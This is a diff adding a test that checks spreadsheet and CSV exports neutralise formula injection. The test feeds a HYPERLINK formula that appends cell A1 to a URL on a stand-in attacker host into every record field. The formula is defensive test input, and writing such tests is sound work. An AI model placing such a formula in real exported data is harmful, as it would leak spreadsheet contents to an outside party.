@@ -43,3 +43,15 @@ it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u00A0=1', 'ï¼
     expect(row.startsWith(`'${term}`)).toBe(true);
   },
 );
+
+it('S26 in no column of a spreadsheet does a text from a page begin a formula', () => {
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+  const hostile = collectRecord(formula, {
+    spec: { term: formula, language: formula, tags: [formula], notes: [formula] },
+    context: { sentence: formula, title: formula, url: formula, language: formula },
+  });
+  const csv = wordsAsCsv([hostile]);
+  expect(csv.split("'=HYPERLINK").length - 1).toBe(7);
+  expect(csv).not.toMatch(/"\s*=/u);
+  expect(wordsAsJson([hostile])).toContain(JSON.stringify(formula));
+});
